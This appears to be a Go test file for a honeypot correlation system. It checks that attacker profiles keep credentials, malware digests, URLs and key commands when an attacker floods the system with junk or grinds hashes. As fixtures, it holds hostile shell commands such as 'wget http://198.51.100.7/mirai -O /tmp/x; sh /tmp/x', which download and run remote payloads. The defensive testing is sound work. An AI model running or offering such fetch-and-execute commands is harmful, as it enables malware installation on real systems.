package hostile

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net/netip"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"dossier/correlate"
	"dossier/correlate/event"
	"dossier/correlate/law"
	"dossier/correlate/state"
	"dossier/profile"
	"dossier/testbed/race"
)

// flood is how many hostile items of a class come, each another one.
const flood = 10_000

// secretRank is the Rank of a list key that the attacker doesn't know.
var secretRank = law.NewRank([law.RankKeySize]byte{0xd0, 0x55, 0x1e, 0x12, 7, 7, 7, 7, 42})

// attack is one list under attack: what is true, what is sent to push it out,
// and where in the profile it must still be found.
type attack struct {
	// truth is the evidence that must not go.
	truth []event.Evidence
	// shown is what the profile has of each.
	shown []string
	// cheap are hostile items of the other classes, by name, same those of
	// the truth's own class.
	cheap map[string]func(i int) event.Evidence
	same  func(i int) event.Evidence
	// field is where the profile shows them.
	field string
	// kept is how many that come first stay for certain.
	kept int
}

func password(user, secret string, o event.Outcome) event.Evidence {
	return event.Evidence{Kind: event.Login, A: user, B: "plaintext", C: secret, Digest: sha256.Sum256([]byte(secret)), Outcome: o}
}

func digestOf(s string) string { return fmt.Sprintf("%x", sha256.Sum256([]byte(s))) }

func fingerprintOf(kind, value string) event.Evidence {
	return event.Evidence{Kind: event.Fingerprint, A: kind, B: value}
}

// long is a text as long as an attacker likes.
func long(i, n int) string { return fmt.Sprint(i, strings.Repeat("x", n)) }

func attacks() map[string]attack {
	file := func(name, url string) event.Evidence {
		return event.Evidence{Kind: event.Artifact, A: digestOf(name), B: url, C: "file"}
	}
	fingerprints := func(except string) map[string]func(int) event.Evidence {
		out := map[string]func(int) event.Evidence{}
		for _, kind := range []string{"hassh", "ja3", "ja4", "ja4h", "ja4_quic", "http_useragent", "ssh_client_banner", "ssh_public_key", "tls_certificate", "mssql_client"} {
			if kind != except {
				out[kind] = func(i int) event.Evidence { return fingerprintOf(kind, long(i, 1000)) }
			}
		}
		return out
	}
	all := map[string]attack{
		"credentials that worked": {
			truth: []event.Evidence{password("root", "true-1", event.Success), password("admin", "true-2", event.Success), password("pi", "true-3", event.Success)},
			shown: []string{`"secret":"true-1"`, `"secret":"true-2"`, `"secret":"true-3"`},
			cheap: map[string]func(int) event.Evidence{
				"failures":         func(i int) event.Evidence { return password("x", fmt.Sprint("f", i), event.Failure) },
				"long failures":    func(i int) event.Evidence { return password(long(i, 1000), long(i, 1000), event.Failure) },
				"unknown outcomes": func(i int) event.Evidence { return password("x", fmt.Sprint("u", i), event.Unknown) },
			},
			same:  func(i int) event.Evidence { return password("x", fmt.Sprint("s", i), event.Success) },
			field: "credentials", kept: state.LimitAdmitted.Firsts,
		},
		"credentials that were tried": {
			truth: []event.Evidence{password("root", "tried-1", event.Failure), password("root", "tried-2", event.Failure)},
			shown: []string{`"secret":"tried-1"`, `"secret":"tried-2"`},
			same:  func(i int) event.Evidence { return password("x", fmt.Sprint("f", i), event.Failure) },
			field: "credentials", kept: state.LimitCredentials.Firsts,
		},
		"digests of files that were fetched": {
			truth: []event.Evidence{file("mirai", "http://198.51.100.7/mirai"), file("gafgyt", "http://198.51.100.7/gafgyt")},
			shown: []string{digestOf("mirai"), digestOf("gafgyt")},
			cheap: map[string]func(int) event.Evidence{
				"downloads that failed": func(i int) event.Evidence {
					return event.Evidence{Kind: event.Artifact, B: "http://192.0.2.1/" + long(i, 1000), C: "url"}
				},
				"uploads": func(i int) event.Evidence { return file(fmt.Sprint("up", i), "") },
				"mails": func(i int) event.Evidence {
					return event.Evidence{Kind: event.Artifact, A: digestOf(fmt.Sprint("mail", i)), C: "mail"}
				},
			},
			same:  func(i int) event.Evidence { return file(fmt.Sprint("junk", i), "http://192.0.2.1/"+long(i, 1000)) },
			field: "artifacts", kept: 4,
		},
		"digests of files that were uploaded": {
			truth: []event.Evidence{file("rootkit", ""), file("miner", "")},
			shown: []string{digestOf("rootkit"), digestOf("miner")},
			cheap: map[string]func(int) event.Evidence{
				"downloads that failed": func(i int) event.Evidence {
					return event.Evidence{Kind: event.Artifact, B: "http://192.0.2.1/" + long(i, 1000), C: "url"}
				},
				"files that were fetched": func(i int) event.Evidence { return file(fmt.Sprint("junk", i), "http://192.0.2.1/"+long(i, 1000)) },
			},
			same:  func(i int) event.Evidence { return file(fmt.Sprint("up", i), "") },
			field: "artifacts", kept: 4,
		},
		"URLs": {
			truth: []event.Evidence{{Kind: event.Artifact, B: "http://198.51.100.7/stage2", C: "url"}},
			shown: []string{`"url":"http://198.51.100.7/stage2"`},
			cheap: map[string]func(int) event.Evidence{
				"files that were fetched": func(i int) event.Evidence { return file(fmt.Sprint("junk", i), "http://192.0.2.1/"+long(i, 1000)) },
			},
			same: func(i int) event.Evidence {
				return event.Evidence{Kind: event.Artifact, B: "http://192.0.2.1/" + long(i, 1000), C: "url"}
			},
			field: "artifacts", kept: 3,
		},
		"commands that a rule knows": {
			truth: []event.Evidence{{Kind: event.Command, A: "wget http://198.51.100.7/mirai -O /tmp/x; sh /tmp/x"}},
			shown: []string{`"command":"wget http://198.51.100.7/mirai -O /tmp/x; sh /tmp/x"`},
			cheap: map[string]func(int) event.Evidence{
				"other commands":      func(i int) event.Evidence { return event.Evidence{Kind: event.Command, A: fmt.Sprint("true ", i)} },
				"other long commands": func(i int) event.Evidence { return event.Evidence{Kind: event.Command, A: "true " + long(i, 4000)} },
			},
			same: func(i int) event.Evidence {
				return event.Evidence{Kind: event.Command, A: fmt.Sprint("wget http://192.0.2.1/", long(i, 4000))}
			},
			field: "commands", kept: state.LimitKnown.Firsts,
		},
		"any commands": {
			truth: []event.Evidence{{Kind: event.Command, A: "show running-config"}},
			shown: []string{`"command":"show running-config"`},
			same:  func(i int) event.Evidence { return event.Evidence{Kind: event.Command, A: "x " + long(i, 4000)} },
			field: "commands", kept: state.LimitCommands.Firsts,
		},
		"addresses that a proxy named": {
			truth: []event.Evidence{{Kind: event.Leak, A: "81.2.69.142", B: "X-Forwarded-For", C: "public"}},
			shown: []string{`"claimed_ip":"81.2.69.142"`},
			cheap: map[string]func(int) event.Evidence{
				"private ones": func(i int) event.Evidence {
					return event.Evidence{Kind: event.Leak, A: fmt.Sprintf("10.%d.%d.1", i>>8, i&255), B: "X-Forwarded-For", C: "private"}
				},
			},
			same: func(i int) event.Evidence {
				return event.Evidence{Kind: event.Leak, A: fmt.Sprintf("85.%d.%d.1", i>>8, i&255), B: "X-Forwarded-For", C: "public"}
			},
			field: "ip_leaks", kept: 4,
		},
		"alerts": {
			truth: []event.Evidence{{Kind: event.Alert, A: "ET EXPLOIT true", B: "Attempted Administrator Privilege Gain", N: 1}},
			shown: []string{`"signature":"ET EXPLOIT true"`},
			same:  func(i int) event.Evidence { return event.Evidence{Kind: event.Alert, A: long(i, 900), B: "x", N: 1} },
			field: "alerts", kept: state.LimitAlerts.Firsts,
		},
		"orders of key exchanges": {
			truth: []event.Evidence{{Kind: event.KexOrder, A: "curve25519-sha256,ecdh-sha2-nistp256"}},
			shown: []string{`"curve25519-sha256,ecdh-sha2-nistp256"`},
			same:  func(i int) event.Evidence { return event.Evidence{Kind: event.KexOrder, A: long(i, 900)} },
			field: "behavior.kex_order", kept: state.LimitKexOrders.Firsts,
		},
	}
	for _, kind := range []string{"hassh", "ja3", "ja4", "ja4h", "ja4_quic", "http_useragent", "ssh_client_banner", "ssh_public_key"} {
		all["fingerprints of kind "+kind] = attack{
			truth: []event.Evidence{fingerprintOf(kind, "true-value")}, shown: []string{`"value":"true-value"`},
			cheap: fingerprints(kind), same: func(i int) event.Evidence { return fingerprintOf(kind, long(i, 1000)) },
			field: "fingerprints", kept: 2,
		}
	}
	return all
}

// rendered folds evidence, one event each a second, in chunks as the commit
// protocol does, and returns a field of the profile as it is shown.
func rendered(t *testing.T, r *profile.Renderer, field string, items []event.Evidence) string {
	t.Helper()
	a, s := new(event.Arena), new(state.Attacker)
	s.By(secretRank)
	for chunk := range slices.Chunk(items, 1000) {
		events := make([]event.Event, len(chunk))
		var pointers []*event.Event
		for i := range chunk {
			events[i] = event.Event{
				Time: event.FromTime(at), Addr: netip.MustParseAddr("203.0.113.7"), Decky: "decky-1", Service: "ssh", Type: "x",
				Kind: event.Interaction, Proof: event.ByConnection, Evidence: chunk[i : i+1 : i+1],
			}
			events[i].Time += event.Time(s.Events+int64(i)) * 1e6
			r.Annotate(a, &events[i])
			pointers = append(pointers, &events[i])
		}
		s.Fold(a, "sensor-1", false, pointers)
		wire := s.Append(nil)
		if len(wire) > s.Size() || s.Size() > state.MaxAttacker {
			t.Fatalf("a state of %d bytes, said to be %d of at most %d", len(wire), s.Size(), state.MaxAttacker)
		}
		a.Reset()
		if err := s.Decode(wire); err != nil {
			t.Fatal(err)
		}
	}
	doc := r.AppendAttacker(nil, correlate.Head{Addr: netip.MustParseAddr("203.0.113.7"), ID: "203.0.113.7", Now: at.Add(24 * time.Hour)}, s)
	var whole map[string]any
	if err := json.Unmarshal(doc, &whole); err != nil {
		t.Fatal(err)
	}
	var v any = whole
	for name := range strings.SplitSeq(field, ".") {
		m, _ := v.(map[string]any)
		v = m[name]
	}
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return strings.ReplaceAll(string(text), `\u003e`, ">")
}

func missing(text string, shown []string) (n int) {
	for _, s := range shown {
		if !strings.Contains(text, s) {
			n++
		}
	}
	return n
}

// items makes the hostile items of a class.
func items(make func(int) event.Evidence) []event.Evidence {
	out := []event.Evidence{}
	for i := range flood {
		out = append(out, make(i))
	}
	return out
}

// Ten thousand hostile items of each other class, before, after and around what
// is true, push none of it out.
func TestAnotherClassPushesOutNothing(t *testing.T) {
	race.OneGoroutine(t)
	for name, a := range attacks() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for class, make := range a.cheap {
				hostile := items(make)
				for where, at := range map[string]int{"before": 0, "between": flood / 2, "behind": flood} {
					if testing.Short() && where != "between" {
						continue
					}
					all := slices.Concat(hostile[:at], a.truth, hostile[at:])
					if n := missing(rendered(t, newRenderer(t), a.field, all), a.shown); n > 0 {
						t.Errorf("%d of %d are gone %s %d items: %s", n, len(a.shown), where, flood, class)
					}
				}
			}
		})
	}
}

// What came first stays, whatever comes behind it of the same class.
func TestWhatCameFirstIsPushedOutByNothing(t *testing.T) {
	race.OneGoroutine(t)
	for name, a := range attacks() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if len(a.truth) > a.kept {
				t.Fatalf("%d are true, %d are kept", len(a.truth), a.kept)
			}
			all := slices.Concat(a.truth, items(a.same))
			if n := missing(rendered(t, newRenderer(t), a.field, all), a.shown); n > 0 {
				t.Errorf("%d of %d are gone", n, len(a.shown))
			}
		})
	}
}

// An attacker who can hash as much as they like, but doesn't know the list key,
// chooses nothing by it: keys with the smallest SHA-256, or with the smallest
// rank of another key, have no more places than others.
func TestGrindingBuysNothing(t *testing.T) {
	race.OneGoroutine(t)
	const tries, sent = 200_000, 400
	other := law.NewRank([law.RankKeySize]byte{1})
	for name, of := range map[string]func(string) uint64{
		"SHA-256": func(key string) uint64 {
			sum := sha256.Sum256([]byte(key))
			return uint64(sum[0])<<56 | uint64(sum[1])<<48 | uint64(sum[2])<<40 | uint64(sum[3])<<32
		},
		"the rank of another key": func(key string) uint64 { return uint64(other.Share(key) * (1 << 53)) },
	} {
		t.Run(name, func(t *testing.T) {
			type ground struct {
				i    int
				hash uint64
			}
			all := make([]ground, tries)
			for i := range all {
				sum := sha256.Sum256(fmt.Appendf(nil, "g%d", i))
				all[i] = ground{i, of("ssh\x00x\x00plaintext\x00" + string(sum[:]))}
			}
			sort.Slice(all, func(i, j int) bool { return all[i].hash < all[j].hash })
			var hostile, truth []event.Evidence
			for _, g := range all[:sent] {
				hostile = append(hostile, password("x", fmt.Sprint("g", g.i), event.Failure))
			}
			var shown []string
			for i := range 100 {
				truth = append(truth, password("root", fmt.Sprint("true-", i), event.Failure))
				shown = append(shown, fmt.Sprintf(`"secret":"true-%d"`, i))
			}
			// Before the list had a key none of the hundred was left.
			lost := missing(rendered(t, newRenderer(t), "credentials", slices.Concat(hostile, truth)), shown)
			t.Logf("of 100 true credentials %d are gone behind %d ground ones", lost, sent)
			// 200 of 500 are kept: of 100 about 40, and four standard
			// deviations less.
			if lost > 80 {
				t.Errorf("%d of 100 true credentials are gone: the ground ones were preferred", lost)
			}
		})
	}
}

// Figures of an attacker's choice can't be had: none says more than there were
// events.
func TestEstimatesClaimNoMoreThanWasSeen(t *testing.T) {
	race.OneGoroutine(t)
	const tries, sent = 300_000, 458
	type ground struct {
		i    int
		hash uint64
	}
	for name, c := range map[string]struct {
		key      func(i int) string
		evidence func(i int) event.Evidence
		field    string
	}{
		"credentials": {func(i int) string {
			sum := sha256.Sum256(fmt.Appendf(nil, "g%d", i))
			return "ssh\x00x\x00plaintext\x00" + string(sum[:])
		}, func(i int) event.Evidence { return password("x", fmt.Sprint("g", i), event.Failure) }, "credential_count"},
		"mail domains": {
			func(i int) string { return fmt.Sprint("g", i, ".example") },
			func(i int) event.Evidence {
				return event.Evidence{Kind: event.Recipient, A: fmt.Sprint("g", i, ".example")}
			}, "smtp_domain_count",
		},
		"sessions": {
			func(i int) string { return fmt.Sprint("g", i) },
			func(i int) event.Evidence { return event.Evidence{Kind: event.Session, A: fmt.Sprint("g", i)} }, "session_count",
		},
	} {
		t.Run(name, func(t *testing.T) {
			all := make([]ground, tries)
			for i := range all {
				sum := sha256.Sum256([]byte(c.key(i)))
				all[i] = ground{i, uint64(sum[0])<<56 | uint64(sum[1])<<48 | uint64(sum[2])<<40 | uint64(sum[3])<<32}
			}
			sort.Slice(all, func(i, j int) bool { return all[i].hash < all[j].hash })
			var hostile []event.Evidence
			for _, g := range all[:sent] {
				hostile = append(hostile, c.evidence(g.i))
			}
			got := rendered(t, newRenderer(t), c.field, hostile)
			var n int64
			fmt.Sscan(got, &n)
			t.Logf("%d events with ground keys show %s %d", sent, c.field, n)
			if n > sent || n < sent*3/4 {
				t.Errorf("%d %s of %d events", n, c.field, sent)
			}
		})
	}
}

// The same of an hour: what a decoy let in, what came first, and the first
// commands stay, whatever else is tried.
func TestAnHoursCredentialsThatWorkedStay(t *testing.T) {
	race.OneGoroutine(t)
	fail := func(i int) event.Evidence { return password("x", long(i, i%300), event.Failure) }
	works := func(i int) event.Evidence { return password("x", fmt.Sprint("s", i), event.Success) }
	types := func(i int) event.Evidence { return event.Evidence{Kind: event.Command, A: "true " + long(i, 4000)} }
	truth := []event.Evidence{password("root", "true-1", event.Success), password("admin", "true-2", event.Success)}
	first := []event.Evidence{password("root", "first-1", event.Failure), {Kind: event.Command, A: "wget http://198.51.100.7/mirai"}}
	for name, c := range map[string]struct {
		all   []event.Evidence
		shown []string
	}{
		"worked, before failures":  {slices.Concat(truth, items(fail)), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
		"worked, between failures": {slices.Concat(items(fail)[:flood/2], truth, items(fail)[flood/2:]), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
		"worked, behind failures":  {slices.Concat(items(fail), truth), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
		"came first":               {slices.Concat(first, items(fail), items(works), items(types)), []string{`"secret":"first-1"`, `"command":"wget http://198.51.100.7/mirai"`}},
		"worked first":             {slices.Concat(truth, items(works)), []string{`"secret":"true-1"`, `"secret":"true-2"`}},
	} {
		a, s := new(event.Arena), new(state.Activity)
		s.By(secretRank)
		for i := range c.all {
			s.Fold(a, "sensor-1", []*event.Event{{Time: event.FromTime(at) + event.Time(i), Service: "ssh", Kind: event.Interaction, Evidence: c.all[i : i+1]}})
		}
		doc := newRenderer(t).AppendActivity(nil, correlate.Head{Addr: netip.MustParseAddr("203.0.113.7"), ID: "203.0.113.7", Now: at}, event.FromTime(at).Hour(), s)
		if n := missing(string(doc), c.shown); n > 0 {
			t.Errorf("%s: %d of %d are gone", name, n, len(c.shown))
		}
	}
}

// Whoever has a shell on a decoy types ten thousand commands around the one
// that matters: a command that a rule knows, and the first of all, stay, with
// the login that makes them a session's coming last.
func TestAFloodOfShellCommandsPushesOutNothingThatMatters(t *testing.T) {
	race.OneGoroutine(t)
	r := newRenderer(t)
	for where, place := range map[string]int{"before": 0, "between": flood / 2, "behind": flood} {
		a, s := new(event.Arena), new(state.Attacker)
		s.By(secretRank)
		first := event.FromTime(at)
		fold := func(ev event.Event) {
			ev.Addr, ev.Decky, ev.Service, ev.Kind = netip.MustParseAddr("203.0.113.7"), "decky-1", "ssh", event.Interaction
			r.Annotate(a, &ev)
			s.Fold(a, "sensor-1", false, []*event.Event{&ev})
		}
		typed := func(i int, line string) {
			fold(event.Event{Time: first + event.Time(i)*1e6, Type: "command", Proof: event.ByShell, Evidence: []event.Evidence{{Kind: event.Command, A: line}}})
		}
		typed(-1, "show first of all")
		for i := range flood {
			if i == place {
				typed(i, "wget http://198.51.100.9/true.sh")
			}
			typed(i, fmt.Sprint("true ", i))
			if i%500 == 0 {
				wire := s.Append(nil)
				a.Reset()
				if err := s.Decode(wire); err != nil {
					t.Fatal(err)
				}
			}
		}
		if place == flood {
			typed(flood, "wget http://198.51.100.9/true.sh")
		}
		fold(event.Event{Time: first - 2e6, Type: "login", Proof: event.ByConnection, Evidence: []event.Evidence{
			{Kind: event.Login, A: "root", B: "plaintext", C: "x", Outcome: event.Success},
		}})
		if n := len(s.Append(nil)); n > s.Size() || s.Size() > state.MaxAttacker {
			t.Errorf("%s: a state of %d bytes, said to be %d of at most %d", where, n, s.Size(), state.MaxAttacker)
		}
		doc := string(r.AppendAttacker(nil, correlate.Head{Addr: netip.MustParseAddr("203.0.113.7"), ID: "203.0.113.7", Now: at.Add(24 * time.Hour)}, s))
		_, commands, _ := strings.Cut(doc, `"commands":[`)
		commands, _, _ = strings.Cut(commands, `],"command"`)
		if n := missing(commands, []string{`"command":"wget http://198.51.100.9/true.sh"`, `"command":"show first of all"`}); n > 0 {
			t.Errorf("%s: %d of 2 are gone", where, n)
		}
	}
}
